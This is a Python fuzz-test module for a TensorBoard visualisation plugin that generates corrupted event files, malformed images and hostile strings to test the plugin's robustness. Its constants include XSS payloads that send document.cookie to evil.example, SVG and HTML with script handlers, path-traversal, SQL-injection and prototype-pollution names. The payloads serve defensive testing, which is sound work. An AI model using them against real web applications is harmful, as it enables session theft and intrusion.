"""What a log may hold that no callback writes: names, bytes, facts and events, by the thousand.

Everything follows from a seed, so that a finding can be had again. `FUZZ` in the environment
multiplies how much is tried, `FUZZ_SEED` begins elsewhere (`make fuzz`).
"""

import base64
import copy
import io
import json
import os
import random
import struct
import zlib
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from tensorboard.compat.proto import event_pb2, summary_pb2, tensor_pb2, types_pb2
from tensorboard.summary.writer.record_writer import RecordWriter

from convviz_tb import metric_table, schema
from convviz_tb.schema import KINDS, Series
from support.logs import Log, example_facts, picture

FUZZ = int(os.environ.get("FUZZ", "1"))
SEED = int(os.environ.get("FUZZ_SEED", "0"))

#: How much was tried; told at the end of the run.
TRIED: Counter[str] = Counter()

#: What a page that ran any of this would do: the browser tests look for it.
ATTACK = "parent.document.title='owned';fetch('//evil.example/'+document.cookie)"
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{ATTACK}\"><script>{ATTACK}</script></svg>"
).encode()
HTML = (
    f"<!doctype html><img src=x onerror=\"{ATTACK}\"><script src='//evil.example/x.js'></script>"
    "<meta http-equiv=refresh content='0;url=//evil.example/'>"
).encode()

NAMES = (
    f"<script>{ATTACK}</script>",
    f'"><img src=x onerror="{ATTACK}">',
    f"<iframe srcdoc='<script>{ATTACK}</script>'>",
    f"javascript:{ATTACK}",
    "{{constructor.constructor('return 1')()}}${1}",
    "%2e%2e/%2e%2e/etc/passwd",
    "../../../etc/passwd",
    "//evil.example/x",
    "a&run=b#c?d=e;f=g+h",
    "new\nline\r\n\ttab",
    "nul\x00bell\x07",
    "😀 \u202egnp.exe\u2066",
    "e\u0301\u0301\u0301" * 30,
    "__proto__",
    "constructor",
    "'; DROP TABLE runs; --",
    " ",
    "-",
    "0",
    "x" * 900,
)
#: Of these a file system makes directories; JSON escapes none of them (see docs/http_api.md).
RUN_NAMES = (
    "<script>parent.canary('run')<",
    "<img src=x onerror=parent.canary('run')>",
    "%2e%2e",
    "a&run=b#c?d=e;f=g+h",
    "{{constructor}}${1}",
    "😀 \u202egnp.exe",
    "__proto__",
    "it's",
    "-",
    "deep/er/still",
    "x" * 200,
)


def png(width: int, height: int, raw: bytes = b"") -> bytes:
    """A picture of that size as its header says; without `raw` all of it black."""
    rows = raw or bytes(1 + (width + 7) // 8) * height
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(rows, 9)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(name, content) for name, content in chunks)


def _chunk(name: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
    )


def jpeg_that_claims(width: int, height: int) -> bytes:
    """A small picture whose header says that it is of another size."""
    blob = bytearray(picture(8, 16, kind="JPEG"))
    frame = blob.index(b"\xff\xc0")
    blob[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(blob)


GOOD = picture(8, 16)
BLOBS = {
    "svg": SVG,
    "html": HTML,
    "png then html": GOOD + HTML,
    "html in a png": GOOD[:8] + HTML,
    "html in a jpeg": b"\xff\xd8\xff" + HTML,
    "gif": b"GIF89a" + HTML,
    "webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
    "bmp": b"BM" + bytes(60),
    "pdf": b"%PDF-1.7\n" + HTML,
    "wasm": b"\0asm\1\0\0\0",
    "zip": b"PK\3\4" + bytes(30),
    "empty": b"",
    "nul": bytes(100),
    "png, cut": GOOD[:60],
    "png, a bit wrong": GOOD[:80] + bytes([GOOD[80] ^ 1]) + GOOD[81:],
    "png without size": png(0, 0, b"x"),
    "png of too many pixels": png(60_000, 60_000, b"x"),
    "png of 2**31 pixels": png(2**31 - 1, 1, b"x"),
    "png that claims more": png(4000, 4000, b"x"),
    "jpeg of too many pixels": jpeg_that_claims(65_000, 65_000),
    "jpeg that claims more": jpeg_that_claims(4000, 4000),
    "jpeg, cut": picture(8, 16, kind="JPEG")[:200],
    "jpeg of segments": b"\xff\xd8\xff" + b"\xe0\x00\x02\xff" * 5000,
    "facts": schema.encode(example_facts("patterns")),
}

NUMBERS: tuple[Any, ...] = (0, -1, 1, 2**31, 2**53, 2**63, -(2**63), 10**400, 1e308, -1e308, 5e-324)
NUMBERS += (float("nan"), float("inf"), float("-inf"), -0.0, 0.5, 1e15)
VALUES: tuple[Any, ...] = (*NUMBERS, *NAMES, None, True, False, [], {}, [[]], [None], {"": {}})
VALUES += ([1, 2], ["a"], {"a": 1}, [{}], [0.5, 0.5], [[0, 1.0]])


def rich_facts(kind: schema.Kind, **changes: Any) -> schema.Facts:
    """Facts with every field of the data format, with two tiles."""
    facts = example_facts(kind)
    if kind == "patterns":
        facts |= {"mode": "natural", "objective": "channel", "view": "picture", "ascent_steps": 24}
        facts |= {"seed": 0, "value_range": [0, 255], "trainable": True, "seconds": 0.5}
        facts |= {"refreshed": False, "baseline_step": 0, "noise_floor": 0.02, "probes": 8}
        facts |= {"unchanged": False, "precision": "float32", "size": [64, 64]}
        facts |= {"filters_by": "use", "assumed": ["size"]}
        tile = {"computed": 0, "name": "cat", "reason": "its weights do not change"} | _metrics(
            "filter"
        )
    elif kind == "heatmaps":
        facts |= {"method": "gradcam", "objective": "logit", "trainable": True, "seconds": 0.1}
        facts |= {"view": "picture", "baseline_step": 0, "most_on": {"frame": 0.44}}
        facts |= {"source": 0, "field": [0.0, 0.25, 1.0, 0.75]}
        facts |= {"placed": True, "turned": ["transposed"]}
        tile = _metrics("heatmap")
    elif kind == "inputs":
        facts |= {"view": "picture", "sources": ["before", "after"], "value_range": [0.0, 1.0]}
        tile = {"box": [0.1, 0.2, 0.5, 0.6], "label": 1, "labels": [0, 1], "source": 0}
        tile |= {"regions": {"sticker": [0.8, 0.8, 1.0, 1.0]}}
        tile |= {"number": 17, "group": "wrong and sure", "since": 4}
    elif kind == "feature_maps":
        facts |= {"source": 0, "field": [0.0, 0.25, 1.0, 0.75]}
        tile = {}
    elif kind == "examples":
        field = {"size": [11, 11], "stride": [4, 4], "offset": [-3, -3], "sides": [32, 32]}
        field |= {"whole": [40, 40]}
        facts |= {"field": field, "count": 256, "source": "pictures", "trainable": True}
        facts |= {"seconds": 0.5}
        tile = {"favourite": 1}
    elif kind == "pictures":
        facts |= {"class_names": ["cat", "dog"]}
        tile = {"label": 1}
    elif kind == "end":
        facts |= {"kept": 1, "stopped": True, "failures": [{"tag": "model", "reason": "disk full"}]}
        return facts | changes
    else:
        facts |= {"baseline": "9f2c", "weights": "03be", "epoch_seconds": 3.5, "budget": 0.1}
        facts |= {"learning_rate": 0.001, "broken": ["loss"]}
        facts |= {"writing_seconds": 0.1}
        facts["confusion"] = {"classes": [0, 1], "counts": [[5, 2], [1, 4]]}
        facts["confusion"] |= {"pictures": 14, "accuracy": 0.75}
        facts |= {"skipped": [{"tag": "patterns/conv2", "reason": "budget"}]}
        facts |= {"findings": [{"text": "Two filters died.", "kind": "patterns", "layer": "conv2"}]}
        facts["layers"][0]["numbers"] = {"kernel_drift": 0.1, "dead": 2}
        tile = {}
    if kind != "model":
        facts["tiles"] = [old | tile for old in facts["tiles"]]
    return facts | changes


def _metrics(of: metric_table.Of) -> dict[str, Any]:
    """A value of each metric of the table that readers can do without."""
    values = {"number": 0.25, "flag": True, "index": 1, "point": [0.5, 0.25]}
    values["channels"] = [[3, 1.5], [1, -0.5]]
    metrics = metric_table.metrics_of(of).values()
    optional = (metric for metric in metrics if not metric.required)
    return {
        metric.name + ("sticker" if metric.name == metric_table.ON_REGION else ""): values[
            metric.type
        ]
        for metric in optional
    }


def odd_facts(rng: random.Random, kind: schema.Kind) -> bytes:
    """Facts of which something is not as the data format says."""
    facts = copy.deepcopy(rich_facts(kind))
    for _ in range(rng.choice((1, 1, 2, 5))):
        _spoil(rng, facts)
    try:
        blob = json.dumps(facts).encode()
    except (ValueError, RecursionError):  # numbers of too many digits
        blob = schema.encode(facts)
    return _bitten(rng, blob) if rng.random() < 0.2 else blob


def _spoil(rng: random.Random, facts: Any) -> None:
    """Changes, removes or adds one value, at any depth."""
    place = facts
    while True:
        keys = list(place) if isinstance(place, dict) else list(range(len(place)))
        if not keys:
            return
        key = rng.choice(keys)
        if isinstance(place[key], (dict, list)) and place[key] and rng.random() < 0.7:
            place = place[key]
            continue
        break
    what = rng.random()
    if what < 0.7:
        place[key] = copy.deepcopy(rng.choice(VALUES))
    elif what < 0.8 and isinstance(place, dict):
        del place[key]
    elif what < 0.9 and isinstance(place, dict):
        place[rng.choice(NAMES)] = copy.deepcopy(rng.choice(VALUES))
    elif isinstance(place, list):
        place.extend(copy.deepcopy(place) * rng.choice((1, 3)))


def _bitten(rng: random.Random, blob: bytes) -> bytes:
    """Some bytes changed, cut off or doubled."""
    bytes_ = bytearray(blob)
    for _ in range(rng.choice((1, 1, 4))):
        at = rng.randrange(len(bytes_) + 1)
        what = rng.random()
        if what < 0.5 and at < len(bytes_):
            bytes_[at] ^= 1 << rng.randrange(8)
        elif what < 0.7:
            del bytes_[at:]
        elif what < 0.85:
            bytes_[at:at] = rng.choice((b"[", b"{", b'"', b"\\", b"\xff", b"\0", b"1e", b"9" * 30))
        else:
            bytes_ += bytes_[at:]
    return bytes(bytes_)


def odd_event(rng: random.Random, *, nan_times: bool) -> event_pb2.Event:
    """One event that has something to do with us, and something wrong."""
    kind = rng.choice(KINDS)
    series = Series(
        kind, "" if kind in ("inputs", "pictures", "model", "end") else rng.choice(("conv", *NAMES))
    )
    metadata = schema.metadata(series)
    if rng.random() < 0.3:
        metadata.plugin_data.content = rng.choice(_CONTENTS)
    if rng.random() < 0.1:
        metadata.plugin_data.plugin_name = rng.choice(
            ("images", "scalars", "hparams", "", "CONVVIZ")
        )
    if rng.random() < 0.15:
        metadata.data_class = rng.choice((0, 1, 2, 3))
    tag = series.tag if rng.random() < 0.8 else rng.choice(("patterns/", "model", "/", *NAMES))
    value = summary_pb2.Summary.Value(tag=tag, metadata=metadata)
    if rng.random() < 0.9:
        value.tensor.CopyFrom(_odd_tensor(rng, kind))
    elif rng.random() < 0.5:
        value.simple_value = rng.choice((float("nan"), 1.0))
    times = [0.0, -1.0, 1e300, float("inf"), 1000.0]
    wall_time = rng.choice(times + [float("nan")] * nan_times) if rng.random() < 0.3 else 1000.0
    steps = (0, 0, 1, 2, -1, 2**31, 2**63 - 1, -(2**63))
    return event_pb2.Event(
        step=rng.choice(steps), wall_time=wall_time, summary=summary_pb2.Summary(value=[value])
    )


def _odd_tensor(rng: random.Random, kind: schema.Kind) -> tensor_pb2.TensorProto:
    tensor = tensor_pb2.TensorProto(dtype=types_pb2.DT_STRING)
    facts = odd_facts(rng, kind) if rng.random() < 0.6 else schema.encode(rich_facts(kind))
    blobs = [facts, rng.choice((GOOD, *BLOBS.values()))]
    if rng.random() < 0.2:
        blobs = blobs[: rng.randrange(2)] or blobs * rng.choice((2, 20))
    tensor.string_val.extend(blobs)
    shape = (len(blobs),)
    if rng.random() < 0.2:
        shape = rng.choice(((), (2, 1), (1, 2), (10**12,), (-3,), (9,), (0,), (2**62, 4), (0, 7)))
    for size in shape:
        tensor.tensor_shape.dim.add(size=size)
    if rng.random() < 0.1:
        tensor.dtype = rng.choice([0, *types_pb2.DataType.values()])
    if rng.random() < 0.1:
        tensor.float_val.append(1.0)
    if rng.random() < 0.05:
        tensor.tensor_content = b"abc"
    return tensor


_CONTENTS = (
    b"",
    b"{}",
    b"\xff\xfe",
    b"[" * 5000,
    b"null",
    b'{"format": 1}',
    b'{"format": 0, "kind": "patterns", "layer": "conv"}',
    b'{"format": 2, "kind": "patterns", "layer": "conv"}',
    b'{"format": 1e999, "kind": "patterns", "layer": "conv"}',
    b'{"format": true, "kind": "patterns", "layer": "conv"}',
    b'{"format": 1, "kind": "patterns", "layer": null}',
    b'{"format": 1, "kind": ["patterns"], "layer": "conv"}',
    b'{"format": 1, "kind": "__proto__", "layer": "conv"}',
    b'{"format": 1, "kind": "model", "layer": "x"}',
    b'{"format": 1, "kind": "patterns", "layer": ""}',
    base64.b64encode(bytes(3000)),
    HTML,
)


def write_odd_run(logdir: Path, run: str, rng: random.Random, *, nan_times: bool) -> int:
    """A run with a good series among odd ones; how many events it holds."""
    writing = Log(logdir / run)
    events = rng.randint(1, 12)
    good = rng.randrange(events)
    for at in range(events):
        if at == good:
            writing.put_whole(Series("patterns", "good"), 3)
        writing.put_event(odd_event(rng, nan_times=nan_times))
    writing.close()
    return events


def damaged(rng: random.Random, content: bytes) -> bytes:
    """An event file that lost its end, or of which bits or whole stretches were changed."""
    bytes_ = bytearray(content)
    what = rng.random()
    at = rng.randrange(len(bytes_))
    if what < 0.35:
        del bytes_[at:]
    elif what < 0.8:
        for _ in range(rng.choice((1, 1, 1, 30))):
            bytes_[rng.randrange(len(bytes_))] ^= 1 << rng.randrange(8)
    elif what < 0.9:
        bytes_[at : at + 512] = rng.randbytes(min(512, len(bytes_) - at))
    else:
        bytes_[at:at] = bytes_[: rng.randrange(400)]
    return bytes(bytes_)


def records(content: bytes) -> Iterator[bytes]:
    """The events of an event file, as bytes."""
    at = 0
    while at + 12 <= len(content):
        (length,) = struct.unpack("<Q", content[at : at + 8])
        yield content[at + 12 : at + 12 + length]
        at += 16 + length


def with_damaged_events(rng: random.Random, content: bytes) -> bytes:
    """An event file whose checksums are right and whose events are not: beyond what a disk does."""
    file = io.BytesIO()
    writer = RecordWriter(file)
    for record in records(content):
        writer.write(_bitten(rng, record) if record and rng.random() < 0.3 else record)
    return file.getvalue()
